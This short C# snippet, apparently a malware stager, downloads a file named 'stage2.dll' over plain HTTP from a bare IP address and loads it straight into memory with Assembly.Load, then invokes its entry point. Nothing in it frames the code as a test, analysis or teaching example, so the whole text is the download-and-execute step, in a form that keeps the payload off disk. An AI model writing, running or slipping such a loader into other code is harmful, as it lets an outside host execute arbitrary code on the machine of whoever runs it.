using System.Net.Http;
var bytes = await new HttpClient().GetByteArrayAsync("http://192.0.2.7/stage2.dll");
System.Reflection.Assembly.Load(bytes).EntryPoint!.Invoke(null, null);
